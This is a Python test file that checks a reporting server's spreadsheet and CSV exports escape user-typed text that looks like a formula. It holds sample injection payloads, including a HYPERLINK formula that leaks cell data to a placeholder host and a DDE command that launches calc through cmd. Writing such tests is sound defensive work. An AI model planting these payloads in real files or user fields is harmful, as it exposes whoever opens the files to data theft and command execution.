"""Spreadsheet formula injection (CONTRACT §10): text a user typed — a household head, a village,
a cadre's name, a problem typed on a phone — never becomes a formula in a file the server
writes. Each file is opened the way its reader opens it (openpyxl, csv) and every cell checked."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from server.admin.accounts import create_user
from server.jobs import run_now
from server.reports import exports
from server.service import create_server_records
from tests.county import PASSWORD, uid
from tests.test_reports import push, set_clock

W47 = "2026-W47"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&C5,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(any_county):
    """A township, village, household, cadre and open problem whose every typed text starts like
    a formula; the household is due and unvisited in W47, so it is on every sheet."""
    app, r = any_county.app, any_county.regions
    r["evil_township"], r["evil_village"] = uid(), uid()
    household = any_county.households["evil"] = uid()
    with app.app_context():
        create_server_records(
            [
                ("region", r["evil_township"], {
                    "parent_id": r["county"], "level": "township", "name": "+1+西山镇",
                    "code": "code-evil-township",
                }),
                ("region", r["evil_village"], {
                    "parent_id": r["evil_township"], "level": "village", "name": DDE,
                    "code": "code-evil-village",
                }),
                ("household", household, {
                    "village_id": r["evil_village"], "code": "-2+3", "head_name": HYPERLINK,
                    "address": "@SUM(1+1)", "phone": "+8613905631299", "category": "#N/A",
                    "status": "active", "visit_policy": "weekly", "lat": None, "lon": None,
                    "notes": "\t=1+1",
                }),
            ],
            actor=None,
        )  # fmt: skip
        any_county.users["evil_cadre"] = create_user(
            "evil_cadre", PASSWORD, "cadre", [r["evil_village"]], [], "-2+3+cmd|' /C calc'!A0"
        )
    phone = any_county.device("evil_cadre")
    push(app, phone, "2026-11-20T18:00:00+08:00", [
        phone.op("create", "problem", uid(), {
            "household_id": household, "category": "@SUM(A1:A9)",
            "description": "\r=HYPERLINK(\"http://evil.example\")",
            "assignee_id": any_county.users["evil_cadre"], "due_date": "2026-11-30",
        }),
    ])  # fmt: skip
    set_clock(app, "2026-11-24T09:00:00+08:00")
    return any_county


def assert_no_formula_in_workbook(content: bytes) -> None:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    evaluated = [(cell.coordinate, cell.data_type) for cell in cells if cell.data_type in "fe"]
    assert evaluated == []  # no formula, and no typed #N/A read as an error value
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []


def assert_no_formula_in_csv(text: str) -> None:
    fields = [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for field in row]
    assert [field for field in fields if field.startswith(FORMULA_STARTS)] == []


def download(county, path: str, region: str) -> bytes:
    admin = county.device("admin")
    query = {"period": W47, "region_id": county.regions[region]}
    response = admin.client.get(path, query_string=query, headers=admin.headers)
    assert response.status_code == 200, response.get_json()
    return response.data


@pytest.mark.parametrize("region", ["county", "evil_township"])
def test_no_typed_text_is_a_formula_in_the_coverage_workbook(hostile, region):
    assert_no_formula_in_workbook(download(hostile, "/api/v1/reports/coverage.xlsx", region))


@pytest.mark.parametrize("region", ["county", "evil_township"])
def test_no_typed_text_starts_like_a_formula_in_the_coverage_csv(hostile, region):
    content = download(hostile, "/api/v1/reports/coverage.csv", region)
    assert_no_formula_in_csv(content.decode("utf-8"))


def test_no_typed_text_is_a_formula_in_the_bulletin_jobs_workbooks(hostile):
    app = hostile.app
    set_clock(app, "2026-11-23T08:00:00+08:00")  # Monday: the bulletin of W47
    with app.app_context():
        assert run_now("weekly_bulletin").status == "ok"
    files = sorted((Path(app.instance_path) / "bulletins").iterdir())
    assert len(files) == 4  # the county and its three townships
    for path in files:
        assert_no_formula_in_workbook(path.read_bytes())


def test_typed_text_keeps_its_words_behind_a_quote_and_figures_stay_numbers(hostile):
    with hostile.app.app_context():
        content = exports.weekly_bulletin_xlsx(W47, hostile.regions["evil_township"])
    book = load_workbook(io.BytesIO(content))
    coverage, unvisited, problems = book["覆盖率"], book["未访户"], book["未办结问题"]
    assert [c.value for c in coverage[4][:2]] == ["'+1+西山镇", "'" + DDE]
    assert [(c.value, c.data_type) for c in coverage[4][2:]] == [
        (1, "n"),
        (0, "n"),
        (1, "n"),
        (0, "n"),
    ]
    assert [c.value for c in unvisited[4][2:4]] == ["'-2+3", "'" + HYPERLINK]
    assert (unvisited[4][5].value, unvisited[4][5].data_type) == ("#N/A", "s")
    description = problems[4][5].value  # the typed CR comes back as LF: XML normalises it
    assert description[0] == "'" and description[2:] == '=HYPERLINK("http://evil.example")'
    assert problems[4][7].value == "'-2+3+cmd|' /C calc'!A0"
    assert all(cell.data_type == "s" for cell in problems[4][:8])


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-5", "@SUM(A1)", "\t=1", "\r=1"])
def test_spreadsheet_text_prefixes_a_quote_to_text_that_starts_like_a_formula(typed):
    assert exports.spreadsheet_text(typed) == "'" + typed


@pytest.mark.parametrize("value", ["上村", "1+1", "a=b", "", None, -5, 0.667])
def test_spreadsheet_text_leaves_other_text_and_every_number_alone(value):
    assert exports.spreadsheet_text(value) == value


def test_control_characters_a_phone_typed_do_not_break_the_bulletin(any_county):
    """openpyxl refuses U+0001…U+001F (but tab, LF, CR): one in a head's name failed the file."""
    cadre = any_county.device("cadre_a")
    household = any_county.households["h2"]
    change = {"head_name": "王\x01五\x1f"}
    push(any_county.app, cadre, "2026-11-20T18:00:00+08:00", [
        cadre.op("update", "household", household, change, 10**9),
    ])  # fmt: skip
    set_clock(any_county.app, "2026-11-24T09:00:00+08:00")
    book = load_workbook(io.BytesIO(download(any_county, "/api/v1/reports/coverage.xlsx", "upper")))
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "王五" in texts


def test_spreadsheet_text_drops_control_characters_and_keeps_tab_lf_cr():
    assert exports.spreadsheet_text("a\x00b\x01c\x1fd\ne") == "abcd\ne"


def test_no_typed_text_is_a_formula_in_the_submissions_workbook(hostile):
    from server.admin.forms_service import publish_next_version
    from tests.test_visit_list import CHECK_FORM

    with hostile.app.app_context():
        publish_next_version(CHECK_FORM, actor=None)
    phone = hostile.device("evil_cadre")
    answers = {"remark": DDE, "water": "no"}
    visit = phone.visit(
        hostile.households["evil"], "2026-11-20T17:00:00+08:00", notes="@SUM(1+1)",
        form_id="household_check", form_version=1, answers=answers,
    )  # fmt: skip
    push(hostile.app, phone, "2026-11-20T18:00:00+08:00", [visit])
    admin = hostile.device("admin")
    query = {"form_id": "household_check", "period": W47, "region_id": hostile.regions["county"]}
    response = admin.client.get(
        "/api/v1/reports/submissions.xlsx", query_string=query, headers=admin.headers
    )
    assert response.status_code == 200, response.get_json()
    assert_no_formula_in_workbook(response.data)
    rows = list(load_workbook(io.BytesIO(response.data))["走访记录"].iter_rows(values_only=True))
    assert "'" + HYPERLINK in rows[1] and "'" + DDE in rows[1]  # the head's name, the answer
